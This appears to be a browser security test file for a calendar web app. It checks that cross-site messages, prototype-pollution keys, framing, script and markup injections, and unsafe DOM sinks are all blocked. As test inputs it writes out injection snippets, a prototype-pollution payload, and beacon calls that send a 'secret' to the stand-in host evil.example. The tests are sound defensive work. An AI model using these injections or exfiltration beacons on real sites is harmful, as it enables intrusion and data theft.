// What other pages, and whoever could put something into ours, try against the app in a browser (docs/attacks.md).
import assert from 'node:assert/strict';
import { createServer } from 'node:http';
import { test } from 'node:test';
import { week } from './calendar-support.mjs';
import { open, openBrowser, settled, startApp, until } from './support.mjs';

/** A site of somebody else's: one page. */
async function startSite(body) {
  const server = createServer((_, response) => response.writeHead(200, { 'Content-Type': 'text/html' }).end(body));
  await new Promise((done) => server.listen(0, '127.0.0.1', done));
  return { url: `http://127.0.0.1:${server.address().port}/`, close: () => server.close() };
}

/** Body of a test with the app, another site, and a browser whose complaints are looked at by the test. */
function withSite(body) {
  return async () => {
    const [app, site, browser] = [
      await startApp(),
      await startSite('<!doctype html><p>evil'),
      await openBrowser({ installs: true }),
    ];
    try {
      await body({ ...browser, url: app.url, site: site.url });
    } finally {
      await browser.close();
      await app.close();
      site.close();
    }
  };
}

/** What the app keeps and shows, as far as a message could change it. */
const seen = (page) =>
  page.evaluate(async () => ({
    address: location.href,
    title: document.title,
    databases: (await indexedDB.databases()).map(({ name }) => name).sort(),
    notices: document.querySelector('ik-app').shadowRoot.querySelectorAll('[part=notice]').length,
    polluted: {}.polluted,
  }));

test(
  'A-48 messages from another site, thousands of them and with odd keys, change nothing',
  withSite(async ({ context, page, url, site, troubles }) => {
    await open(page, url + week);
    await until(async () => (await seen(page)).databases.length > 0, true);
    const before = await seen(page);
    // A page may write to a window that it has: here the worst case, where our headers have not cut that.
    const evil = await context.newPage();
    await evil.goto(site);
    const opened = context.waitForEvent('page');
    await evil.evaluate((address) => {
      globalThis.theirs = open(address);
    }, url + week);
    const other = await opened;
    await other.locator('ik-calendar [part~=grid]').waitFor();
    await evil.evaluate(() => {
      for (let i = 0; i < 2_000; i++) globalThis.theirs?.postMessage({ type: 'SKIP_WAITING', i }, '*');
    });
    for (const target of [page, other])
      await target.evaluate(async () => {
        const odd = JSON.parse('{"__proto__":{"polluted":1},"constructor":{"prototype":{"polluted":1}}}');
        const all = [odd, null, 0, 'READY', [odd], { type: 'open-reminder', url: 'https://evil.example/' }];
        for (const type of ['snooze-reminder', 'changed', 'writer', 'who', 'run', 'APPLY', 'GET'])
          all.push({ type, ...odd });
        for (let i = 0; i < 200; i++)
          for (const data of all)
            dispatchEvent(new MessageEvent('message', { data, origin: 'https://evil.example', source: window }));
        await new Promise((done) => setTimeout(done));
      });
    await page.locator('ik-calendar [part~=grid]').waitFor();
    assert.deepEqual(await seen(page), before);
    assert.deepEqual(await seen(other), before);
    assert.deepEqual(troubles, []);
  }),
);

test(
  'A-49 a page that shows the widget, or frames the app, gets at nothing the app keeps',
  withSite(async ({ page, url, site }) => {
    await open(page, url + week);
    await until(async () => (await seen(page)).databases.length > 0, true);
    await page.goto(site);
    const found = await page.evaluate(async (address) => {
      const frame = document.createElement('iframe');
      const loaded = new Promise((done) => frame.addEventListener('load', done));
      frame.src = address;
      document.body.append(frame);
      await loaded;
      let inside = 'nothing';
      try {
        inside = frame.contentWindow.indexedDB ? 'indexedDB' : 'window';
      } catch (error) {
        inside = error.name;
      }
      const databases = await indexedDB.databases();
      return { inside, databases, kept: await caches.keys().catch(() => []), frames: frame.contentDocument };
    }, url + week);
    assert.deepEqual(found, { inside: 'SecurityError', databases: [], kept: [], frames: null });
    // Nothing of the app is drawn in there.
    const [, frame] = page.frames();
    assert.equal(await frame.locator('ik-app').count(), 0);
  }),
);

/** Each tries to run or fetch something in the page, as injected markup would. */
const injections = {
  'an inline script': () => {
    const script = document.createElement('script');
    script.append(document.createTextNode('globalThis.hacked = 1'));
    document.head.append(script);
  },
  'a handler in an attribute': () => {
    const button = document.createElement('button');
    button.setAttribute('onclick', 'globalThis.hacked = 1');
    document.body.append(button);
    button.click();
    button.remove();
  },
  'a script from another site': () => {
    const script = document.createElement('script');
    script.setAttribute('src', 'data:text/javascript,globalThis.hacked=1');
    document.head.append(script);
  },
  'a base': () => {
    const base = document.createElement('base');
    base.href = 'https://evil.example/';
    document.head.append(base);
    if (new URL('x', document.baseURI).host === 'evil.example') globalThis.hacked = 1;
    base.remove();
  },
  'a form': () => {
    const form = document.createElement('form');
    form.action = 'https://evil.example/';
    document.body.append(form);
    form.submit();
    form.remove();
  },
  'an object': () => {
    const object = document.createElement('embed');
    object.setAttribute('src', 'https://evil.example/x.swf');
    document.body.append(object);
  },
  'a frame': () => {
    const frame = document.createElement('iframe');
    frame.src = 'https://evil.example/';
    document.body.append(frame);
  },
  'a style sheet': () => {
    const link = document.createElement('link');
    link.rel = 'stylesheet';
    link.href = 'https://evil.example/x.css';
    document.head.append(link);
  },
  'a picture that tells': () => {
    new Image().src = 'https://evil.example/?secret';
  },
  'a plain connection': () => {
    fetch('http://evil.example/?secret').catch(() => undefined);
  },
};

test(
  'A-50 what was put into the page neither runs nor fetches; normal use is no violation',
  withSite(async ({ context, page, url, troubles }) => {
    const asked = [];
    await context.route(/evil\.example/, (route) => {
      asked.push(route.request().url());
      return route.abort();
    });
    await context.addInitScript(() => {
      globalThis.violations = [];
      addEventListener('securitypolicyviolation', ({ effectiveDirective }) =>
        globalThis.violations.push(effectiveDirective),
      );
    });
    for (const path of [week, '/contacts', '/settings', '/join']) {
      await page.goto(url + path);
      await page
        .locator('ik-calendar [part~=grid], ik-contacts-page, ik-settings-page, ik-join-invite')
        .first()
        .waitFor();
      await settled(page);
      assert.deepEqual(await page.evaluate(() => globalThis.violations), [], path);
    }
    await open(page, url + week);
    for (const [what, inject] of Object.entries(injections)) {
      const before = troubles.length;
      // Trusted Types may refuse it before the policy has to.
      const refused = await page.evaluate(`(${inject})()`).then(
        () => false,
        (error) => /TypeError|TrustedScript/.test(error.message),
      );
      // The browser says on its console what it has stopped.
      if (!refused) await until(() => troubles.length > before || what, true);
      assert.equal(await page.evaluate(() => globalThis.hacked), undefined, what);
    }
    assert.equal(new URL(page.url()).origin, url);
    assert.deepEqual(asked, []);
    // In a task of the page's own: what the debugger evaluates is no page script.
    const evaluated = await page.evaluate(
      () =>
        new Promise((done) => {
          setTimeout(() => {
            try {
              done(Reflect.construct(Function, ['return 1'])());
            } catch (error) {
              done(error.name);
            }
          });
        }),
    );
    assert.match(String(evaluated), /Error$/);
  }),
);

/** Places where a string would become HTML, code or a script's address. */
const sinks = {
  innerHTML: () => {
    document.createElement('div').innerHTML = '<img>';
  },
  outerHTML: () => {
    const div = document.createElement('div');
    div.append(document.createElement('p'));
    div.firstElementChild.outerHTML = '<img>';
  },
  insertAdjacentHTML: () => document.createElement('div').insertAdjacentHTML('beforeend', '<img>'),
  'a shadow root': () => {
    document.createElement('div').attachShadow({ mode: 'open' }).innerHTML = '<img>';
  },
  'document.write': () => document.write('<img>'),
  DOMParser: () => new DOMParser().parseFromString('<img>', 'text/html'),
  createContextualFragment: () => document.createRange().createContextualFragment('<img>'),
  srcdoc: () => {
    document.createElement('iframe').srcdoc = '<img>';
  },
  'script text': () => {
    document.createElement('script').text = '1';
  },
  'script textContent': () => {
    document.createElement('script').textContent = '1';
  },
  'script src': () => {
    document.createElement('script').src = 'https://evil.example/x.js';
  },
  Worker: () => new Worker('https://evil.example/x.js'),
  setTimeout: () => setTimeout('1'),
  setInterval: () => setInterval('1'),
  setHTMLUnsafe: () => document.createElement('div').setHTMLUnsafe('<img>'),
  'a handler': () => document.createElement('div').setAttribute('onclick', '1'),
};

test(
  'A-51 [A-62] strings become neither HTML nor code, and scripts and workers come from this site alone',
  withSite(async ({ page, url }) => {
    await open(page, url + week);
    for (const [name, sink] of Object.entries(sinks)) {
      const said = await page.evaluate(
        `(() => { try { (${sink})(); return 'nothing'; } catch (error) { return error.name; } })()`,
      );
      assert.equal(said, 'TypeError', name);
    }
    const registered = await page.evaluate(() =>
      Promise.allSettled(
        ['https://evil.example/sw.js', 'data:text/javascript,1', '/calendar/../nothing.js'].map((address) =>
          (async () => navigator.serviceWorker.register(address, { scope: '/' }))(),
        ),
      ).then((all) => all.map(({ status }) => status)),
    );
    assert.deepEqual(registered, ['rejected', 'rejected', 'rejected']);
  }),
);
